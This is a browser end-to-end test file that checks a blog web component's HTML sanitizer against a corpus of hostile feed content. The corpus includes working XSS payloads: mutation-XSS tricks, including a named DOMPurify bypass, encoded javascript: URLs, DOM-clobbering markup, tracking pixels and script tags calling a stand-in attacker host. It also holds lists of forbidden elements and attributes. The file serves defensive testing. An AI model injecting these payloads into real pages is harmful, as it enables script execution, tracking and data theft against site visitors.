import { expectNoAxeViolations } from './support/axe';
import { expect, test, type Page } from './support/test';
import { usePartnerOrigin } from './support/partnerOrigin';

/**
 * <dc-blog>'s sanitizer in a real browser (Chromium, not happy-dom): a partner page on another
 * origin, deliberately WITHOUT a Content-Security-Policy (a CSP would hide a hole), loads the
 * standalone element with a hostile feed. For every attack of the corpus the test checks the real
 * DOM: no script ran (alert and friends are traps, dialogs are recorded), no request reached an
 * attacker host, no javascript:/data: URL survived in a URL attribute, nothing can clobber
 * document/window names. Then the image-hosts attribute: images load only from the hosts the
 * embedder allows (default: the feed's own origin).
 */
const ours = `http://localhost:${process.env.E2E_PORT ?? 4173}`;
const ATTACKER = 'attacker.test';
const IMAGES = 'images.test';
/** A 1×1 PNG, answered for every request to the fake hosts. */
const PNG = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==', 'base64');
const OWN_SVG = '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="63" viewBox="0 0 120 63"><rect width="120" height="63" fill="#2251d8"/></svg>';

const partner = usePartnerOrigin();
test.beforeAll(() => {
  partner.page('/own.svg', OWN_SVG, {}, 'image/svg+xml');
});

interface FeedPost {
  id: number;
  title?: string;
  summary?: string;
  content: string;
  image_url?: string;
  tags?: string[];
  author?: string;
}

function feedOf(posts: FeedPost[]): string {
  return JSON.stringify({
    posts: posts.map((post, index) => ({
      slug: `post-${post.id}`,
      title: `Post ${post.id}`,
      author: 'Eve',
      date: `2025-06-${String(20 - index).padStart(2, '0')}`,
      category: 'Analytics',
      summary: 'A summary.',
      canonical_url: `https://partner.example/blog/post-${post.id}/`,
      ...post,
    })),
  });
}

/** Serves a feed and a page holding <dc-blog src="/{name}.json" {attributes}> (standalone file, no CSP). */
function servePage(name: string, posts: FeedPost[], attributes = '', theme: 'light' | 'dark' = 'light'): string {
  partner.page(`/${name}.json`, feedOf(posts), {}, 'application/json');
  partner.page(
    `/${name}`,
    `<!doctype html><html lang="en" data-theme="${theme}"><head><meta charset="utf-8"><title>Hostile feed</title>
<link rel="stylesheet" href="${ours}/widgets/dc-tokens.css"><style>body{background:var(--dc-bg)}</style></head>
<body><main><h1>Partner blog</h1><dc-blog src="/${name}.json" ${attributes}></dc-blog></main>
<script type="module" src="${ours}/widgets/dc-blog.js"></script></body></html>`,
  );
  return `${partner.origin}/${name}`;
}

interface Watch {
  /** Every URL the page requested on the fake hosts. */
  hostile: string[];
  dialogs: string[];
  errors: string[];
  warnings: string[];
}

/** Traps for script execution and a record of requests, installed before the page loads. */
async function watch(page: Page): Promise<Watch> {
  const seen: Watch = { hostile: [], dialogs: [], errors: [], warnings: [] };
  await page.addInitScript(() => {
    const w = window as unknown as { __xss: string[] } & Record<string, unknown>;
    w.__xss = [];
    for (const name of ['alert', 'confirm', 'prompt', 'print']) {
      w[name] = (...args: unknown[]) => {
        w.__xss.push(`${name}(${args.map(String).join(',')})`);
      };
    }
  });
  await page.route(/^https?:\/\/([^/]+\.)?(attacker|images)\.test(:\d+)?\//, (route) =>
    route.fulfill({ status: 200, contentType: 'image/png', body: PNG, headers: { 'Access-Control-Allow-Origin': '*' } }),
  );
  page.on('request', (request) => {
    if (/^https?:\/\/([^/]+\.)?(attacker|images)\.test/.test(request.url())) seen.hostile.push(request.url());
  });
  page.on('dialog', (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('pageerror', (error) => seen.errors.push(error.message));
  page.on('console', (message) => {
    if (message.type() === 'warning') seen.warnings.push(message.text());
  });
  return seen;
}

/** Waits until the featured article is shown and every image in the element has finished (loaded or failed). */
async function settle(page: Page) {
  await expect(page.locator('#blog-featured')).toBeVisible({ timeout: 10_000 });
  await page.waitForFunction(() => {
    const root = document.querySelector('dc-blog')?.shadowRoot;
    return !!root && [...root.querySelectorAll('img')].every((img) => img.complete);
  });
  // Two frames more, so error/load handlers queued by the last image have run.
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
}

/** What the real DOM holds: anything a sanitizer must never let through. */
function inspect(page: Page) {
  return page.evaluate(() => {
    const root = document.querySelector('dc-blog')!.shadowRoot!;
    const content = root.querySelector('.blog-content')!;
    const everything = [...root.querySelectorAll('*')];
    const inContent = [...content.querySelectorAll('*')];
    const FORBIDDEN = ['script', 'style', 'iframe', 'frame', 'object', 'embed', 'form', 'input', 'button', 'textarea', 'select', 'svg', 'math', 'template', 'noscript', 'base', 'link', 'meta', 'video', 'audio', 'source', 'picture', 'details', 'xmp', 'noembed'];
    const URL_ATTRIBUTES = ['href', 'src', 'srcset', 'action', 'formaction', 'xlink:href', 'poster', 'background', 'ping', 'data', 'cite'];
    const badUrls: string[] = [];
    for (const element of everything) {
      for (const attribute of [...element.attributes]) {
        if (!URL_ATTRIBUTES.includes(attribute.name.toLowerCase())) continue;
        const compact = attribute.value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
        if (/(^|,)(javascript|vbscript|data):/.test(compact) || /\s(javascript|vbscript|data):/.test(attribute.value.toLowerCase())) {
          badUrls.push(`${element.localName}[${attribute.name}=${attribute.value}]`);
        }
      }
    }
    return {
      xss: (window as unknown as { __xss: string[] }).__xss,
      forbiddenElements: inContent.filter((el) => FORBIDDEN.includes(el.localName) || el.namespaceURI !== 'http://www.w3.org/1999/xhtml').map((el) => el.localName),
      forbiddenAttributes: inContent.flatMap((el) =>
        [...el.attributes]
          .map((attribute) => attribute.name.toLowerCase())
          .filter((name) => name.startsWith('on') || ['style', 'id', 'name', 'form', 'srcset', 'sizes', 'formaction', 'action', 'xlink:href', 'ping', 'srcdoc', 'poster', 'background', 'is', 'slot', 'part', 'class'].includes(name))
          .map((name) => `${el.localName}[${name}]`),
      ),
      badUrls,
      // DOM clobbering: the page's own names still mean what they should.
      clobbered: [
        typeof document.getElementById !== 'function' && 'document.getElementById',
        typeof document.cookie !== 'string' && 'document.cookie',
        typeof document.body?.appendChild !== 'function' && 'document.body',
        !(document.forms instanceof HTMLCollection) && 'document.forms',
        document.forms.length !== 0 && 'a form reached the page',
        'attributes' in window && 'window.attributes',
        'defaultView' in window && 'window.defaultView',
        'cookie' in window && 'window.cookie',
        '__xssTarget' in window && 'window.__xssTarget',
        typeof (window as unknown as { alert: unknown }).alert !== 'function' && 'window.alert',
      ].filter(Boolean),
      text: content.textContent ?? '',
      html: content.innerHTML,
    };
  });
}

/** The attack corpus: [name, post content, text that must be shown]. `alert(n)` would mark a hole. */
const CORPUS: Array<[string, string, string?]> = [
  ['mXSS: math > mtext > table > mglyph > style', `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math><p>after math</p>`, 'after math'],
  ['mXSS: svg > p > style breaks out of foreign content', `<svg><p><style><img src=x onerror=alert(2)></style></p></svg><p>after svg</p>`, 'after svg'],
  ['mXSS: svg closing-p with a style-looking attribute', `<svg></p><style><a id="</style><img src=1 onerror=alert(3)>"></svg><p>kept</p>`, '">kept'],
  ['mXSS: form/math/mglyph (DOMPurify 2.0.0 bypass)', `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(4)>`],
  ['mXSS: math > style', `<math><style><img src=x onerror=alert(5)></style></math><p>m</p>`, 'm'],
  ['noscript: title attribute closing the noscript', `<noscript><p title="</noscript><img src=x onerror=alert(6)>"></noscript><p>after noscript</p>`, 'after noscript'],
  ['template and declarative shadow root', `<template><img src=x onerror=alert(7)></template><div><template shadowrootmode="open"><img src=x onerror=alert(7)><slot></slot></template>light text</div>`, 'light text'],
  ['raw-text elements: noembed, xmp, textarea, title, iframe', `<noembed><img src=x onerror=alert(8)></noembed><xmp><img src=x onerror=alert(8)></xmp><textarea><img src=x onerror=alert(8)></textarea><title><img src=x onerror=alert(8)></title>`],
  ['comment and CDATA tricks', `<!--><img src="x" onerror="alert(9)">--><svg><![CDATA[><img src=x onerror=alert(9)>]]></svg><p>c</p>`],
  [
    'encoded javascript: URLs',
    `<p><a href="&#x6A;avascript:alert(10)">hex</a> <a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(10)">dec</a> <a href="java&#x09;script:alert(10)">tab</a> <a href="java&#x0A;script:alert(10)">nl</a> <a href="javascript&colon;alert(10)">colon</a> <a href="  JaVaScRiPt:alert(10)">case</a> <a href="&#x01;javascript:alert(10)">ctrl</a> <a href="vbscript:msgbox(10)">vb</a> <a href="data:text/html,&lt;script&gt;alert(10)&lt;/script&gt;">data</a></p>`,
    'hex dec tab nl colon case ctrl vb data',
  ],
  [
    'srcset candidates and picture sources',
    `<p>i</p><img src="/own.svg" srcset="x 1x, javascript:alert(11) 2x" alt="with srcset"><img srcset="http://${ATTACKER}/srcset.png 1x" alt="only srcset"><picture><source srcset="http://${ATTACKER}/source.png"><img src="/own.svg" alt="in picture"></picture>`,
  ],
  [
    'DOM clobbering with id and name',
    `<form id="attributes" name="__xssTarget"><input name="attributes"><input id="cookie"></form><img name="cookie" src="/own.svg" alt="c"><a id="defaultView" name="body" href="#">anchor</a><p id="getElementById">p</p><form name="forms"><img name="forms"></form><object name="alert"></object><embed name="alert">`,
  ],
  [
    'forms, formaction and xlink:href',
    `<form action="javascript:alert(12)"><button formaction="javascript:alert(12)">go</button><input type="image" src="http://${ATTACKER}/input.png"></form><svg><a xlink:href="javascript:alert(12)"><text x="0" y="10">svg link</text></a><image href="http://${ATTACKER}/svg-image.png"/></svg><p>f</p>`,
  ],
  [
    'event handlers, frames, plugins, base and meta',
    `<p onmouseover="alert(13)" onclick="alert(13)">h</p><img src="x" onerror="alert(13)"><details open ontoggle="alert(13)"><summary>s</summary>d</details><iframe src="javascript:alert(13)"></iframe><iframe srcdoc="<script>alert(13)</script>"></iframe><object data="http://${ATTACKER}/object"></object><embed src="http://${ATTACKER}/embed"><base href="http://${ATTACKER}/"><meta http-equiv="refresh" content="0;url=javascript:alert(13)"><body onload="alert(13)"><p>end</p>`,
  ],
  [
    'tracking pixels and remote styles',
    `<p>before</p><img src="http://${ATTACKER}/pixel.gif?u=1" alt="Pixel text"><img src="//${ATTACKER}/p2.gif" width="1" height="1"><img src="https://sub.${ATTACKER}/p3.gif" alt=""><link rel="stylesheet" href="http://${ATTACKER}/s.css"><style>@import url(http://${ATTACKER}/i.css); p { background: url(http://${ATTACKER}/bg.png) }</style><p style="background:url(http://${ATTACKER}/style.png)">styled</p><video poster="http://${ATTACKER}/v.png" src="http://${ATTACKER}/v.mp4"></video><audio src="http://${ATTACKER}/a.mp3" autoplay></audio><table background="http://${ATTACKER}/t.png"><tr><td>cell</td></tr></table><a href="http://${ATTACKER}/link" ping="http://${ATTACKER}/ping">a link</a>`,
    'beforePixel textstyledcella link',
  ],
  ['script in every form', `<script>alert(14)</script><script src="http://${ATTACKER}/x.js"></script><svg><script>alert(14)</script></svg><img src=x onerror=alert(14)//><p>s</p>`],
];

test.describe('the sanitizer in Chromium', () => {
  test('the harness catches a hole: unsanitised markup runs its handler and reaches the attacker', async ({ page }) => {
    // Guards the test itself: the same checks that pass below must fail on raw, unsanitised HTML.
    const seen = await watch(page);
    await page.goto(servePage('control', [{ id: 1, content: '<p>control</p>' }]));
    await settle(page);
    await page.locator('dc-blog').evaluate((host, attacker) => {
      host.shadowRoot!.querySelector('.blog-content')!.innerHTML = `<img src="x" onerror="alert('hole')" id="attributes"><img src="http://${attacker}/raw.gif"><a href="javascript:alert(1)">j</a>`;
    }, ATTACKER);
    await expect.poll(() => page.evaluate(() => (window as unknown as { __xss: string[] }).__xss)).toEqual(['alert(hole)']);
    await expect.poll(() => seen.hostile).toEqual([`http://${ATTACKER}/raw.gif`]);
    const found = await inspect(page);
    expect(found.forbiddenAttributes).toEqual(['img[onerror]', 'img[id]']);
    expect(found.badUrls).toEqual(['a[href=javascript:alert(1)]']);
  });

  for (const [name, content, text] of CORPUS) {
    test(`blocks: ${name}`, async ({ page }) => {
      const seen = await watch(page);
      const slug = name.replace(/[^a-z0-9]+/gi, '-').toLowerCase();
      await page.goto(servePage(`case-${slug}`, [{ id: 1, title: name, content }, { id: 2, content: '<p>Second post</p>' }]));
      await settle(page);
      await expect(page.locator('#blog-featured-title')).toHaveText(name);
      const found = await inspect(page);
      expect(found.xss, found.html).toEqual([]);
      expect(seen.dialogs).toEqual([]);
      expect(seen.errors).toEqual([]);
      expect(seen.hostile, found.html).toEqual([]);
      expect(found.forbiddenElements, found.html).toEqual([]);
      expect(found.forbiddenAttributes, found.html).toEqual([]);
      expect(found.badUrls, found.html).toEqual([]);
      expect(found.clobbered, found.html).toEqual([]);
      if (text !== undefined) expect(found.text.replace(/\s+/g, ' ').trim()).toBe(text);
      // Interaction does not wake anything up: every pointer and focus event on every element of the content.
      await page.locator('.blog-content *').evaluateAll((elements) => {
        for (const element of elements) {
          for (const type of ['pointerover', 'mouseover', 'mouseenter', 'mousemove', 'mousedown', 'mouseup', 'focus', 'focusin']) {
            element.dispatchEvent(new MouseEvent(type, { bubbles: true, composed: true }));
          }
        }
      });
      expect(await page.evaluate(() => (window as unknown as { __xss: string[] }).__xss)).toEqual([]);
    });
  }

  test('fields other than the content are text: markup in title, summary, author and tags never becomes elements', async ({ page }) => {
    const seen = await watch(page);
    const evil = `<img src=x onerror=alert(20)><script>alert(20)</script>`;
    await page.goto(
      servePage('fields', [
        { id: 1, title: `Title ${evil}`, summary: `Summary ${evil}`, author: `Author ${evil}`, tags: [`tag${evil}`], content: '<p>c</p>', image_url: `http://${ATTACKER}/card.png` },
        { id: 2, title: `Second ${evil}`, content: '<p>d</p>', image_url: 'javascript:alert(20)' },
      ]),
    );
    await settle(page);
    // The second entry is refused (its image_url is javascript:), with a warning naming the field.
    expect(seen.warnings.some((warning) => warning.includes('Post 2 (slug "post-2"): "image_url" must be an http(s) or relative URL'))).toBe(true);
    await expect(page.locator('#blog-featured-title')).toHaveText(`Title ${evil}`);
    await expect(page.locator('.blog-summary')).toHaveText(`Summary ${evil}`);
    await expect(page.locator('.blog-author')).toHaveText(`Author ${evil}`);
    await expect(page.getByRole('button', { name: `#tag${evil}` }).first()).toBeVisible();
    const root = await page.locator('dc-blog').evaluate((host) => ({
      images: host.shadowRoot!.querySelectorAll('img').length,
      scripts: host.shadowRoot!.querySelectorAll('script').length,
      placeholder: host.shadowRoot!.querySelectorAll('.blog-featured-media .blog-placeholder').length,
    }));
    expect(root).toEqual({ images: 0, scripts: 0, placeholder: 1 });
    expect(seen.hostile).toEqual([]);
    expect(await page.evaluate(() => (window as unknown as { __xss: string[] }).__xss)).toEqual([]);
  });
});

test.describe('image-hosts: which hosts images of a feed may load from', () => {
  const posts = (): FeedPost[] => [
    {
      id: 1,
      title: 'Pictures from elsewhere',
      image_url: `http://${IMAGES}/card.png`,
      content: `<p>Own: <img src="/own.svg" alt="Own chart"></p><p>Remote: <img src="http://${IMAGES}/inline.png" alt="Remote chart"></p><p>Sub: <img src="http://cdn.${IMAGES}/sub.png" alt="Sub chart"></p>`,
    },
    { id: 2, title: 'Own picture', image_url: '/own.svg', content: '<p>Second</p>' },
  ];
  /** The paths of the images that loaded, each once, sorted. */
  const loaded = (page: Page) =>
    page.locator('dc-blog').evaluate((host) =>
      [...new Set([...host.shadowRoot!.querySelectorAll('img')].filter((img) => img.complete && img.naturalWidth > 0).map((img) => new URL(img.src).pathname))].sort(),
    );

  test('default: only the feed\'s own origin; others show the placeholder or their alt text, and are never requested', async ({ page }) => {
    const seen = await watch(page);
    await page.goto(servePage('hosts-default', posts()));
    await settle(page);
    expect(seen.hostile).toEqual([]);
    await expect(page.locator('.blog-featured-media .blog-placeholder')).toHaveCount(1);
    const content = page.locator('.blog-content');
    await expect(content).toContainText('Remote: Remote chart');
    await expect(content).toContainText('Sub: Sub chart');
    expect(await loaded(page)).toEqual(['/own.svg']);
  });

  test('allowed by host or origin: those images load; a wildcard allows subdomains', async ({ page }) => {
    const seen = await watch(page);
    await page.goto(servePage('hosts-allowed', posts(), `image-hosts="${IMAGES}, ${partner.origin}"`));
    await settle(page);
    expect([...new Set(seen.hostile)].sort()).toEqual([`http://${IMAGES}/card.png`, `http://${IMAGES}/inline.png`]);
    await expect(page.locator('.blog-featured-media img')).toHaveAttribute('src', `http://${IMAGES}/card.png`);
    await expect(page.locator('.blog-content')).toContainText('Sub: Sub chart');
    expect(await loaded(page)).toEqual(['/card.png', '/inline.png', '/own.svg']);

    const second = await page.context().newPage();
    const wild = await watch(second);
    await second.goto(servePage('hosts-wildcard', posts(), `image-hosts="*.${IMAGES}"`));
    await settle(second);
    // Only the subdomain: the feed's own origin is not listed, so its images are not loaded either.
    expect(wild.hostile).toEqual([`http://cdn.${IMAGES}/sub.png`]);
    expect(await loaded(second)).toEqual(['/sub.png']);
  });

  test('"none" loads no image at all; a malformed value warns and keeps the default', async ({ page }) => {
    const seen = await watch(page);
    await page.goto(servePage('hosts-none', posts(), 'image-hosts="none"'));
    await settle(page);
    expect(await loaded(page)).toEqual([]);
    await expect(page.locator('.blog-content')).toContainText('Own: Own chart');
    expect(seen.hostile).toEqual([]);

    await page.goto(servePage('hosts-bad', posts(), `image-hosts="http://${IMAGES}/path javascript:x"`));
    await settle(page);
    expect(seen.hostile).toEqual([]);
    expect(await loaded(page)).toEqual(['/own.svg']);
    expect(seen.warnings.filter((warning) => warning.includes('image-hosts'))).toEqual([
      `<dc-blog> image-hosts: "http://${IMAGES}/path" is not a host or an http(s) origin; ignored.`,
      '<dc-blog> image-hosts: "javascript:x" is not a host or an http(s) origin; ignored.',
      `<dc-blog> image-hosts: no usable entry; images load from the feed's own site only (${partner.origin}).`,
    ]);
  });

  for (const theme of ['light', 'dark'] as const) {
    test(`the placeholder and alt-text state passes axe, ${theme} theme`, async ({ page }) => {
      await watch(page);
      await page.goto(servePage(`hosts-axe-${theme}`, posts(), '', theme));
      await settle(page);
      await expectNoAxeViolations(page, 'dc-blog');
    });
  }
});
